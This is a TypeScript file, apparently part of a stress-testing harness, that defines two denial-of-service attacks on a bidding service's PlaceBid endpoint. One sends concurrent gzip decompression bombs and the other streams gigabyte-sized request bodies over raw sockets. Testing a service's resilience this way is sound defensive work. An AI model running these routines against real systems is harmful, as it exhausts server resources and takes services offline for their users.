import { once } from 'node:events'
import { gzipSync } from 'node:zlib'
import { type Attack, repeat } from './attack.ts'
import { openSocket } from './raw-socket.ts'

const path = '/bids.v1.BidService/PlaceBid'

const BOMB_BYTES = 50_000_000
const BOMBS_AT_ONCE = 4

export const decompressionBombs: Attack = {
  name: 'decompression-bombs',
  description: 'Bodies of 50 kB that unpack to 50 MB, 4 at a time',
  run: async (context) => {
    const body = gzipSync(Buffer.alloc(BOMB_BYTES, ' '))
    let sent = 0
    const one = () =>
      repeat(context, async () => {
        sent += 1
        await fetch(context.url + path, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
          body,
          signal: context.signal,
        })
          .then((response) => response.text())
          .catch(() => undefined)
      })
    await Promise.all(Array.from({ length: BOMBS_AT_ONCE }, one))
    return `${sent} bombs`
  },
}

const GIGABYTE = 1_000_000_000
const CONNECTIONS = 4
const chunk = Buffer.alloc(65_536, ' ')

export const hugeBodies: Attack = {
  name: 'huge-bodies',
  description: 'Bodies of 1 GB on 4 connections, as fast as they are taken',
  run: async (context) => {
    let bytes = 0
    const one = () =>
      repeat(context, async () => {
        const socket = openSocket(context).resume()
        const gone = once(socket, 'close').catch(() => undefined)
        socket.write(
          `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${GIGABYTE}\r\n\r\n`,
        )
        for (let sent = 0; sent < GIGABYTE && !socket.destroyed; sent += chunk.length) {
          if (context.signal.aborted) break
          bytes += chunk.length
          if (socket.write(chunk)) await new Promise((resolve) => setImmediate(resolve))
          else await Promise.race([once(socket, 'drain').catch(() => undefined), gone])
        }
        socket.destroy()
      })
    await Promise.all(Array.from({ length: CONNECTIONS }, one))
    return `${(bytes / 1_000_000).toFixed(0)} MB written`
  },
}
